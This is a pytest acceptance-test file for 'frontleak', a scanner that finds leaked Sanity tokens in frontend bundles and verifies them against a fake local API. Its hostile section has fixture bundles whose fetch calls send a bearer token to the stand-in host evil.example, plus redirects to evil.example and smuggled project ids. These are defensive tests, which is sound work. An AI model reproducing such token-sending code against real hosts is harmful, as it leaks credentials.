"""The installed `frontleak verify` and `frontleak scan --verify`, against the local API."""

import json
import signal
import subprocess
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.acceptance.support import PATIENCE, Run, frontleak, interruptible, token, write
from tests.fakes.sanity_api import NOT_FOUND, SanityApi
from tests.fakes.tls_server import Reply, after, answers, header_bomb, huge_body, raw, redirects
from tests.faults.disks import small_disk
from tests.support.paths import ROOT
from tests.support.wrapped import command, environment_of, run_wrapped

TOKEN = token("command")


def verify(api: SanityApi, *arguments: str | Path, cwd: Path, value: str = TOKEN, env: Mapping[str, str] = {}) -> Run:
    """Pass a token to `frontleak verify` on standard input, and check that the output does not contain it."""
    done = run_wrapped(api, "verify", *arguments, cwd=cwd, stdin=value.encode(), env=env)
    assert no_part_of(TOKEN, done.stdout + done.stderr)
    return done


def no_part_of(secret: str, data: bytes) -> bool:
    """Return whether some bytes contain no more than the four characters shown of a redacted secret."""
    return not any(secret[start : start + 6].encode() in data for start in range(len(secret) - 6))


# --- what is refused -------------------------------------------------------------------------------------------------

REFUSED: Mapping[str, tuple[Sequence[str], Mapping[str, str], bytes, str]] = {
    "a token as an argument": (["verify", TOKEN], {}, b"", "cannot be an argument: arguments are stored"),
    "a token after dashes": (["verify", "--", TOKEN], {}, b"", "cannot be an argument"),
    "a token beside one on standard input": (["verify", TOKEN], {}, TOKEN.encode(), "cannot be an argument"),
    "a token as an option": (["verify", "--token", TOKEN], {}, b"", "No such option"),
    "a token as the name of a variable": (["verify", "--token-env", TOKEN], {}, b"", "is unset or empty"),
    "a token as a project": (["verify", "--project", TOKEN], {}, b"", "a project id consists of"),
    "a token as a dataset": (["verify", "--dataset", f"/{TOKEN}"], {}, b"", "a dataset name consists of"),
    "no token": (["verify"], {}, b" \n", "expected one token, got nothing"),
    "two tokens": (["verify"], {}, f"{TOKEN}\n{TOKEN}".encode(), "several words or lines"),
    "an empty variable": (["verify", "--token-env", "X"], {"X": ""}, b"", "is unset or empty"),
    "in a hook": (["verify"], {"PRE_COMMIT": "1"}, TOKEN.encode(), "refused in a pre-commit hook"),
    "offline by flag": (["verify", "--offline"], {}, TOKEN.encode(), "--offline (or FRONTLEAK_OFFLINE) forbids"),
    "offline by variable": (["verify"], {"FRONTLEAK_OFFLINE": "1"}, TOKEN.encode(), "forbids"),
    "a record in no folder": (["verify", "--record", "x/y"], {}, TOKEN.encode(), "folder x does not exist"),
    "a scan in a hook": (["scan", "--verify"], {"PRE_COMMIT": "1"}, b"", "refused in a pre-commit hook"),
    "a scan offline by flag": (["scan", "--verify", "--offline"], {}, b"", "forbids"),
    "a scan offline by variable": (["scan", "--verify"], {"FRONTLEAK_OFFLINE": "true"}, b"", "forbids"),
    "a project without --verify": (["scan", "--project=abcd1234"], {}, b"", "requires --verify"),
    "a cache without --verify": (["scan", "--verify-cache=x"], {}, b"", "requires --verify"),
    "a project that is none": (["scan", "--verify", "--project=evil.example/#"], {}, b"", "a project id consists of"),
    "a cache that is another file": (["scan", "--verify", "--verify-cache=a.js"], {}, b"", "a.js: "),
}


@pytest.mark.parametrize(("arguments", "env", "stdin", "message"), REFUSED.values(), ids=REFUSED)
def test_what_is_refused_says_why_and_never_repeats_a_token(
    tmp_path: Path, arguments: Sequence[str], env: Mapping[str, str], stdin: bytes, message: str
) -> None:
    write(tmp_path, {"a.js": f"'{TOKEN}'"})
    done = frontleak(*arguments, cwd=tmp_path, stdin=stdin, env=env)
    assert (done.code, done.out) == (2, "")
    assert message in done.err
    assert no_part_of(TOKEN, done.stderr)


@pytest.mark.parametrize("name", ["verify", "project", "verify-cache"])
def test_no_file_can_switch_verification_on_or_steer_it(tmp_path: Path, name: str) -> None:
    write(
        tmp_path, {"a.js": f"'{TOKEN}'", ".frontleak.yaml": f"{name}: true\n", "ci.toml": f"[tool.frontleak]\n{name}=1"}
    )
    for arguments in (["--verify"], ["--config=ci.toml"]):
        done = frontleak("scan", *arguments, cwd=tmp_path)
        assert done.code == 2
        assert f"unknown option {name!r}: only a command-line flag can set it" in done.err


def test_no_variable_can_either(tmp_path: Path) -> None:
    write(tmp_path, {"a.js": f"'{TOKEN}'"})
    env = {"FRONTLEAK_VERIFY": "1", "FRONTLEAK_PROJECT": "abcd1234", "FRONTLEAK_VERIFY_CACHE": "x"}
    done = frontleak("scan", "--format=json", cwd=tmp_path, env=env)
    assert done.code == 1
    assert "calls" not in done.json()


OWN_RULE = """\
{id: own-rule, name: own, severity: high, confidence: high, pattern: "ownkey_(?P<secret>[a-z0-9]{20})", verify: sanity,
 samples: "[a-z0-9]{20}", examples: ["ownkey_{sample}"], silent: [ownkey_], why: a, fix: b, references: ["https://x"]}
"""


def test_rules_that_a_file_of_the_tree_chose_do_not_decide_what_is_sent(tmp_path: Path) -> None:
    write(tmp_path, {"a.js": "", ".frontleak.yaml": "jobs: 1\nrules: [own]\n", "own/rule.yaml": OWN_RULE})
    done = frontleak("scan", "--verify", "a.js", cwd=tmp_path)
    assert done.code == 2
    assert ".frontleak.yaml:2" in done.err
    assert frontleak("scan", "--verify", "--isolated", "a.js", cwd=tmp_path).code == 0
    assert frontleak("scan", "--verify", "--rules=own", "a.js", cwd=tmp_path).code == 0


# --- frontleak verify ------------------------------------------------------------------------------------------------


HOW = "the access list of dataset production grants it create, update"


def test_an_active_token(api: SanityApi, tmp_path: Path) -> None:
    api.add(TOKEN, "editor")
    done = verify(api, "--project=abcd1234", cwd=tmp_path)
    assert (done.code, done.err) == (1, "")
    lines = done.out.splitlines()
    assert lines[0] == "active: robot token, can-write in project abcd1234, dataset production (editor)"
    assert lines[1:4] == [
        "    label     CI Robot (Robot)",
        f"    how       Sanity returned the token's account; {HOW}",
        "    evidence  abcd1234.api.sanity.io/v2021-06-07/users/me: 200",
    ]
    assert lines[-1].startswith(
        "              GET https://abcd1234.api.sanity.io/v2021-06-07/projects/abcd1234/datasets/production/acl  200  "
    )


def test_a_token_in_a_variable_and_the_verdict_as_json(api: SanityApi, tmp_path: Path) -> None:
    api.add(TOKEN, "viewer", robot=False)
    arguments = ("--format=json", "--token-env=LEAKED", "--dataset=blog")
    done = verify(api, *arguments, cwd=tmp_path, value="", env={"LEAKED": f"Bearer {TOKEN}\n"})
    assert done.code == 1
    plain = done.json()
    assert plain["verdict"]["kind"] == "personal"
    assert plain["verdict"]["scope"] == "admin"
    assert [call["status"] for call in plain["calls"]] == [200, 200, 200]
    schema = json.loads((ROOT / "docs" / "report.schema.json").read_text())
    for definition, values in (("verdict", [plain["verdict"]]), ("call", plain["calls"])):
        for value in values:
            jsonschema.validate(value, {"$defs": schema["$defs"], "$ref": f"#/$defs/{definition}"})


# Response of the API -> exit code.
CODES: Mapping[str, tuple[Reply, int, str]] = {
    "unknown token": (answers(401, NOT_FOUND), 0, "inactive"),
    "an error of the server": (answers(500, {}), 3, "unknown"),
    "too many calls": (answers(429, {}, Retry_After="60"), 3, "unknown"),
    "no credentials seen": (answers(200, {}), 3, "unknown"),
    "robots are not allowed": (answers(403, {"message": "Robots are not allowed"}), 1, "active: robot token"),
}


@pytest.mark.parametrize(("reply", "code", "words"), CODES.values(), ids=CODES)
def test_exit_codes(api: SanityApi, tmp_path: Path, reply: Reply, code: int, words: str) -> None:
    api.replies["."] = reply
    done = verify(api, cwd=tmp_path)
    assert (done.code, done.out.startswith(words)) == (code, True), done.out


def test_without_a_network_the_answer_is_unknown(tmp_path: Path, api: SanityApi) -> None:
    done = verify(api, cwd=tmp_path, env={"HTTPS_PROXY": "http://127.0.0.1:1"})
    assert (done.code, done.out.splitlines()[0]) == (3, "unknown")
    assert "the proxy set in the environment does not work" in done.out


def test_a_dry_run_lists_the_calls_and_makes_none(tmp_path: Path) -> None:
    done = frontleak("verify", "--dry-run", "--project=abcd1234", cwd=tmp_path, env={"PRE_COMMIT": "1"})
    assert (done.code, done.err) == (0, "")
    lines = done.out.splitlines()
    assert lines[:2] == ["GET https://abcd1234.api.sanity.io/v2021-06-07/users/me", "    first"]
    assert "GET https://api.sanity.io/v2025-08-30/users/me" in lines
    assert all(line.startswith(("GET https://", "    ")) for line in lines)


def test_a_record_can_be_shared(api: SanityApi, tmp_path: Path) -> None:
    api.add(TOKEN, "editor")
    assert verify(api, "--record=trace.json", "--project=abcd1234", cwd=tmp_path).code == 1
    data = (tmp_path / "trace.json").read_bytes()
    assert no_part_of(TOKEN, data)
    assert b"abcd1234" not in data
    assert [call["status"] for call in json.loads(data)["calls"]] == [200, 200]


@pytest.mark.skipif(sys.platform != "linux", reason="a full disk is a small one, mounted or simulated")
def test_a_full_disk_costs_the_record_and_not_the_verdict(api: SanityApi, tmp_path: Path) -> None:
    api.add(TOKEN, "editor")
    with small_disk(4096) as disk:
        if not disk.mounted:
            pytest.skip("mounting is not allowed")
        (disk.folder / "full").write_bytes(bytes(4096))
        done = verify(api, "--record", disk.folder / "trace.json", "--project=abcd1234", cwd=tmp_path)
        assert (done.code, done.out.splitlines()[0][:6]) == (2, "active")
        assert "trace.json: cannot be written: No space left on device" in done.err
        assert [file.name for file in disk.folder.iterdir()] == ["full"]


@pytest.mark.skipif(sys.platform != "linux", reason="as above")
def test_a_full_disk_costs_the_verdict_cache_and_not_the_report(api: SanityApi, tree: Path) -> None:
    api.add(TOKEN, "editor")
    with small_disk(4096) as disk:
        if not disk.mounted:
            pytest.skip("mounting is not allowed")
        (disk.folder / "full").write_bytes(bytes(4096))
        assert scan(api, f"--verify-cache={disk.folder / 'cache.json'}", cwd=tree).code == 1
        (skip,) = report(tree)["skipped"]
        assert skip["reason"].startswith("the verdicts were not saved: ")
        assert [file.name for file in disk.folder.iterdir()] == ["full"]


# --- frontleak scan --verify -----------------------------------------------------------------------------------------


def bundle(value: str = TOKEN, project: str = "abcd1234") -> str:
    """Return code that uses a token."""
    return f'createClient({{projectId:"{project}",dataset:"production",token:"{value}"}})'


def scan(api: SanityApi, *arguments: str, cwd: Path, env: Mapping[str, str] = {}, injected: bool = True) -> Run:
    """Scan and verify with every report format, and check that no output contains a token."""
    before = {file for file in cwd.rglob("*") if not file.name.startswith("out.")}
    outputs = [part for name in ("text", "json", "jsonl", "sarif") for part in ("--format", name, "-o", f"out.{name}")]
    done = run_wrapped(api, "scan", "--verify", *arguments, *outputs, cwd=cwd, env=env, injected=injected)
    written = [file.read_bytes() for file in cwd.rglob("*") if file.is_file() and file not in before]
    assert len(written) >= 4
    assert all(no_part_of(TOKEN, data) for data in (done.stdout, done.stderr, *written))
    assert all(TOKEN not in one.path + one.host for one in api.received)
    return done


def report(folder: Path) -> dict[str, Any]:
    """Return the JSON report of such a scan."""
    plain: dict[str, Any] = json.loads((folder / "out.json").read_text())
    return plain


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """Create a folder with a token in three places."""
    files = {"dist/a.js": bundle(), "dist/b.js": bundle(), "src/c.env": f"SANITY_TOKEN={TOKEN}\n"}
    return write(tmp_path / "tree", files)


def test_a_write_token_in_a_bundle_is_critical_and_the_reports_say_how_that_is_known(
    api: SanityApi, tree: Path
) -> None:
    api.add(TOKEN, "editor")
    assert scan(api, "--fail-on=critical", cwd=tree).code == 1
    plain = report(tree)
    (finding,) = plain["findings"]
    assert (finding["severity"], len(finding["also_at"])) == ("critical", 2)
    assert finding["verdict"]["scope"] == "can-write"
    assert [(call["path"].rpartition("/")[2], call["status"]) for call in plain["calls"]] == [("me", 200), ("acl", 200)]
    text = (tree / "out.text").read_text()
    assert "verdict active: robot token, can-write in project abcd1234, dataset production (editor)" in text
    assert "    GET https://abcd1234.api.sanity.io/v2021-06-07/users/me  200  " in text
    assert "Verified with 2 calls: 1 active." in text
    jsonschema.validate(plain, json.loads((ROOT / "docs" / "report.schema.json").read_text()))
    log = json.loads((tree / "out.sarif").read_text())
    jsonschema.validate(log, json.loads((ROOT / "tests" / "report" / "sarif-schema-2.1.0.json").read_text()))
    (run,) = log["runs"]
    assert run["results"][0]["level"] == "error"
    assert "Verdict: active: robot token, can-write" in run["results"][0]["message"]["text"]
    assert run["results"][0]["properties"]["verdict"] == finding["verdict"]
    assert len(run["properties"]["calls"]) == 2
    lines = [json.loads(line) for line in (tree / "out.jsonl").read_text().splitlines()]
    assert [line["type"] for line in lines] == ["finding", "call", "call", "summary"]


@pytest.mark.parametrize(
    ("role", "robot", "severity", "code"),
    [("viewer", True, "medium", 1), ("viewer", False, "critical", 1), ("", True, "low", 0)],
    ids=["a viewer", "a person who is a viewer", "nobody"],
)
def test_other_verdicts_have_other_severities(
    api: SanityApi, tree: Path, role: str, severity: str, code: int, *, robot: bool
) -> None:
    api.add(TOKEN if role else "other", role or "viewer", robot=robot)
    assert scan(api, cwd=tree).code == code
    (finding,) = report(tree)["findings"]
    assert finding["severity"] == severity
    if severity == "medium":
        assert "including drafts" in finding["verdict"]["reason"]


def test_findings_are_ordered_by_what_the_secrets_may_do(api: SanityApi, tmp_path: Path) -> None:
    folder = write(tmp_path / "tree", {f"dist/{name}.js": bundle(token(name)) for name in "abc"})
    api.add(token("a"), "viewer")
    api.add(token("c"), "editor")
    scan(api, cwd=folder)
    assert [(finding["path"], finding["severity"]) for finding in report(folder)["findings"]] == [
        ("dist/c.js", "critical"),
        ("dist/a.js", "medium"),
        ("dist/b.js", "low"),
    ]


def test_values_reach_the_verifier_from_worker_processes_and_no_report(api: SanityApi, tree: Path) -> None:
    api.add(TOKEN, "editor")
    write(tree, {f"dist/big{number}.js": "const a = b;\n" * 900_000 for number in range(4)})
    scan(api, "--jobs=2", cwd=tree)
    assert report(tree)["findings"][0]["severity"] == "critical"


def test_what_is_not_reported_is_not_verified(api: SanityApi, tmp_path: Path) -> None:
    dummy = "skE5UXUmBEy7U50jcG4In4v4xoHZTlduDxQYet8Y84tsTqAZxp2reIPJsA1JzqXJno2qcpauGwPfjHpU"
    folder = write(
        tmp_path / "tree",
        {"a.md": dummy, "package.json": '{"dependencies":{"next":"15"}}', ".next/server/chunks/1.js": bundle()},
    )
    scan(api, cwd=folder)
    assert (report(folder)["calls"], api.connections) == ([], 0)
    assert "nothing to verify" in (folder / "out.text").read_text()


def test_a_file_of_verdicts_saves_calls_and_holds_no_token(api: SanityApi, tree: Path, tmp_path: Path) -> None:
    api.add(TOKEN, "editor")
    file = tmp_path / "verdicts.json"
    for calls in (2, 0):
        api.received.clear()
        assert scan(api, f"--verify-cache={file}", cwd=tree).code == 1
        plain = report(tree)
        assert (len(api.received), len(plain["calls"])) == (calls, calls)
        assert plain["findings"][0]["severity"] == "critical"
    assert any(line.startswith("established 20") for line in plain["findings"][0]["verdict"]["evidence"])
    assert no_part_of(TOKEN, file.read_bytes())
    assert file.stat().st_mode & 0o777 == 0o600


def test_secrets_are_revealed_only_when_that_was_asked_for_too(api: SanityApi, tree: Path) -> None:
    api.add(TOKEN, "editor")
    done = run_wrapped(api, "scan", "--verify", "--reveal", "--format=json", cwd=tree)
    assert done.json()["findings"][0]["secret"] == TOKEN
    assert done.json()["findings"][0]["verdict"]["status"] == "active"


# --- hostile ---------------------------------------------------------------------------------------------------------

HOSTILE_IDS = (
    *(
        "evil.example/#",
        "evil.example",
        "a@evil.example",
        "ABCD1234",
        "abcd1234/",
        "abcd.123",
        "äbcd1234",
        "abcd123\\u002f",
    ),
    *("abcd1234.evil.example", "evil.example?", "127.0.0.1", "[::1]", "abcd%2f12", "abcd1234\\n"),
)


@pytest.fixture
def everything_hostile(tmp_path: Path) -> Path:
    """Create a folder of bundles that name their own hosts as projects, each near the same token."""
    files = {f"dist/{number}.js": bundle(project=name) for number, name in enumerate(HOSTILE_IDS)}
    files["dist/x.js"] = (
        f'fetch("https://evil.example/v1/data/mutate/../x",{{headers:{{Authorization:"Bearer {TOKEN}"}}}})'
    )
    files["dist/y.js"] = f'apiHost:"https://evil.example",projectId:"https://evil.example/",token:"{TOKEN}"'
    return write(tmp_path / "tree", files)


def test_a_project_id_that_is_a_host_never_gets_the_token(api: SanityApi, everything_hostile: Path) -> None:
    scan(api, cwd=everything_hostile)
    assert {one.host for one in api.received} == {"api.sanity.io"}
    assert {call["host"] for call in report(everything_hostile)["calls"]} == {"api.sanity.io"}


ECHO = {
    "id": TOKEN,
    "name": f"Jane {TOKEN}",
    "provider": "sanity-token",
    "role": TOKEN,
    "roles": [{"name": TOKEN}],
    "projects": {TOKEN: {}, "abcd1234": {}},
    "message": f"no {TOKEN}",
    "error": {"type": TOKEN, "description": TOKEN},
    "errorCode": TOKEN,
}
BAD: Mapping[str, Reply] = {
    "a redirect to another host": redirects("https://evil.example/"),
    "a redirect to itself": redirects("https://efgh5678.api.sanity.io/v1/users/me", 307),
    "ten gigabytes": huge_body(),
    "headers without an end": header_bomb(),
    "the token sent back as an answer": answers(200, ECHO, X_RateLimit_Limit=TOKEN),
    "the token sent back as an error": answers(401, ECHO, Location=f"https://evil.example/{TOKEN}"),
    "the token sent back as a page": answers(403, f"<html>{TOKEN}"),
    "the token sent back as no HTTP": raw(f"{TOKEN}\r\n{TOKEN}: {TOKEN}\r\n\r\n".encode()),
    "the token sent back in headers": raw(f"HTTP/1.1 200 {TOKEN}\r\n{TOKEN}\r\nX: {TOKEN}\r\n\r\n".encode()),
}


@pytest.mark.parametrize("reply", BAD.values(), ids=BAD)
def test_whatever_the_server_does_no_token_comes_out(api: SanityApi, tree: Path, tmp_path: Path, reply: Reply) -> None:
    api.replies["."] = reply
    scan(api, f"--verify-cache={tree / 'verdicts.json'}", cwd=tree)
    assert report(tree)["calls"]
    assert {one.method for one in api.received} == {"GET"}
    assert {one.host for one in api.received} <= {"api.sanity.io", "abcd1234.api.sanity.io"}


def test_a_system_that_finds_sanity_at_home_gets_no_token(api: SanityApi, tree: Path) -> None:
    assert scan(api, cwd=tree, injected=False).code == 1
    plain = report(tree)
    assert plain["findings"][0]["verdict"]["status"] == "unknown"
    assert plain["findings"][0]["severity"] == "high"
    assert {call["error"] for call in plain["calls"]} == {
        "not sent: the host resolves to 127.0.0.1, which is not a public address"
    }
    assert (api.connections, api.received) == (0, [])


def test_many_findings_of_few_tokens_are_few_verifications(api: SanityApi, tmp_path: Path) -> None:
    tokens = [token(str(number)) for number in range(20)]
    for value in tokens:
        api.add(value, "viewer")
    files = {f"dist/{place}.js": "\n".join(bundle(value) for value in tokens) for place in range(10)}
    folder = write(tmp_path / "tree", files)
    scan(api, cwd=folder)
    found = report(folder)["findings"]
    assert (len(found), sum(1 + len(finding["also_at"]) for finding in found)) == (20, 200)
    assert len([call for call in api.calls() if call.endswith("/users/me")]) == 20
    assert len(api.received) == 40
    assert max(api.most_at_once.values()) <= 2


def test_an_interrupt_stops_at_once(api: SanityApi, tmp_path: Path) -> None:
    folder = write(tmp_path / "tree", {"a.js": "\n".join(bundle(token(str(number))) for number in range(20))})
    api.replies["."] = after(PATIENCE)
    process = subprocess.Popen(
        interruptible(*command(api, tmp_path), "scan", "--verify"),
        cwd=folder,
        env=environment_of(api),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    while not api.received and process.poll() is None:
        api.wait(0.01)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=PATIENCE)
    assert (process.returncode, out, err.split()) == (130, b"", [b"interrupted"])
    assert len(api.received) <= 2, "those under way, and none after them"
